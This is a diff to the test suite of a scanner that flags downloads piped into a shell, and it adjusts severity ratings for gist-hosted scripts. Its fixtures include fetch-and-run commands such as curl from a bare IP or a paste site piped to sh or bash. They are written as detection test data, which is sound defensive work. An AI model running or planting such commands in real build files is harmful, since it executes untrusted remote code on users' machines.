@@ -18,6 +18,9 @@ describe('curl-pipe-shell in scripts and task files', () => {
     expect(found('Makefile', [], ['setup:', '\tcurl -sSL http://45.61.136.13/i.sh | sh'])).toEqual(['high Makefile:3']);
     expect(found('.envrc', [], ['export PATH=$PWD/bin:$PATH', 'curl -s https://paste.ee/r/abc | bash'])).toEqual(['high .envrc:3']);
     expect(found('scripts/bootstrap.sh', [], ['bash <(curl -fsSL https://get.example.dev/install)'])).toEqual(['medium scripts/bootstrap.sh:2']);
+    // A gist is anyone's paste (the tj-actions payload came from one); a repository's own raw file is not.
+    expect(found('Makefile', [], ['test:', '\tcurl -sSL https://gist.githubusercontent.com/xyz/abc/raw/prep.sh | sh', '\tgo test ./...'])).toEqual(['high Makefile:3']);
+    expect(found('Makefile', [], ['test:', '\tcurl -sSL https://raw.githubusercontent.com/acme/tools/main/prep.sh | sh'])).toEqual(['medium Makefile:3']);
   });
 
   it('reads a shell or interpreter named by its path (`| /bin/bash`, `| /usr/bin/python3`), not a pipe into another program', () => {
@@ -141,7 +144,7 @@ describe('a download handed to a shell or an interpreter through substitution', 
   });
 
   it('reports such a line in a script as a piped download', () => {
-    expect(found('scripts/ci.sh', [], ['python3 <(curl -s https://gist.githubusercontent.com/ci-helper/1a2b/raw/ci.py)'])).toEqual(['medium scripts/ci.sh:2']);
+    expect(found('scripts/ci.sh', [], ['python3 <(curl -s https://gist.githubusercontent.com/ci-helper/1a2b/raw/ci.py)'])).toEqual(['high scripts/ci.sh:2']);
   });
 });
 
